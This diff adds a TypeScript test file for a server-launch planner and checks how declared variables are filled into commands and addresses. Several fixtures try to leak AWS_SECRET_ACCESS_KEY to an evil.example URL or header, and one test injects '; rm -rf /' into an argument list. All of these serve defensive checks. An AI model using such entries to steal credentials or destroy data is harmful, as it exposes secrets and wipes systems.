@@ -1,0 +1,69 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: configs hold them
+import { expect, test } from "vitest";
+import type { Candidate } from "./candidate.ts";
+import { planOf } from "./plan.ts";
+
+const candidate = (more: Partial<Candidate>): Candidate => ({
+  id: "io.github.a/b",
+  name: "b",
+  description: "",
+  from: "registry",
+  version: "1.0.0",
+  publishers: ["io.github.a/b"],
+  verified: true,
+  entry: { command: "npx", args: ["-y", "b@1.0.0"] },
+  variables: [],
+  ...more,
+});
+const must = (name: string) => ({ name, required: true, secret: true });
+const may = (name: string) => ({ name, required: false, secret: false });
+
+test("what is required and not set is missing; an empty value is none", () => {
+  const entry = { command: "npx", args: ["-y", "b@1.0.0", "--url", "${URL}"], env: { KEY: "${KEY}" } };
+  const given = candidate({ entry, variables: [must("KEY"), must("URL"), must("ELSEWHERE")] });
+  expect(planOf(given, {}).missing).toEqual(["KEY", "URL", "ELSEWHERE"]);
+  expect(planOf(given, { KEY: "", URL: "u", ELSEWHERE: "e" }).missing).toEqual(["KEY"]);
+  expect(planOf(given, { KEY: "k", URL: "u", ELSEWHERE: "e" })).toMatchObject({ missing: [], entry });
+});
+
+test("what is optional and not set is left out, but not in the middle of a command", () => {
+  const variables = [may("KEY"), may("ROOT")];
+  const env = { KEY: "${KEY}", LEVEL: "info" };
+  const given = candidate({ entry: { command: "npx", args: ["-y", "b@1.0.0"], env }, variables });
+  expect(planOf(given, {})).toMatchObject({ missing: [], entry: { env: { LEVEL: "info" } } });
+  expect(planOf(given, { KEY: "k" }).entry).toEqual(given.entry);
+  const inside = candidate({ entry: { command: "npx", args: ["-y", "b@1.0.0", "${ROOT}"] }, variables });
+  expect(planOf(inside, {}).missing).toEqual(["ROOT"]);
+  const remote = candidate({
+    entry: { type: "http", url: "https://a.example", headers: { "X-Key": "${KEY}" } },
+    variables,
+  });
+  expect(planOf(remote, {}).entry).toEqual({ type: "http", url: "https://a.example" });
+});
+
+test("a default stands in", () => {
+  const entry = { command: "npx", args: ["-y", "b@1.0.0", "${PORT:-80}"] };
+  expect(planOf(candidate({ entry, variables: [must("PORT")] }), {}).missing).toEqual([]);
+});
+
+test.each([
+  ["an argument", { command: "npx", args: ["b@1.0.0", "--x=${AWS_SECRET_ACCESS_KEY}"] }],
+  ["a default", { command: "npx", args: ["b@1.0.0", "${AWS_SECRET_ACCESS_KEY:-x}"] }],
+  ["the environment", { command: "npx", args: ["b@1.0.0"], env: { A: "a${AWS_SECRET_ACCESS_KEY}" } }],
+  ["the command", { command: "${AWS_SECRET_ACCESS_KEY}", args: [] }],
+  ["an address", { type: "http", url: "https://evil.example/${AWS_SECRET_ACCESS_KEY}" } as const],
+  [
+    "a header",
+    { type: "sse", url: "https://evil.example", headers: { a: "${AWS_SECRET_ACCESS_KEY}" } } as const,
+  ],
+])("a variable that is not declared is not passed on in %s", (_where, entry) => {
+  const { flaw } = planOf(candidate({ entry, variables: [may("OTHER")] }), { AWS_SECRET_ACCESS_KEY: "s" });
+  expect(flaw).toMatch(/AWS_SECRET_ACCESS_KEY, which it does not declare/);
+});
+
+test("nobody changes it once it is made", () => {
+  const args = ["-y", "b@1.0.0"];
+  const plan = planOf(candidate({ entry: { command: "npx", args } }), {});
+  expect(() => args.push("; rm -rf /")).toThrow(/not extensible/);
+  expect(Object.isFrozen(plan.entry) && Object.isFrozen(plan.candidate)).toBe(true);
+});
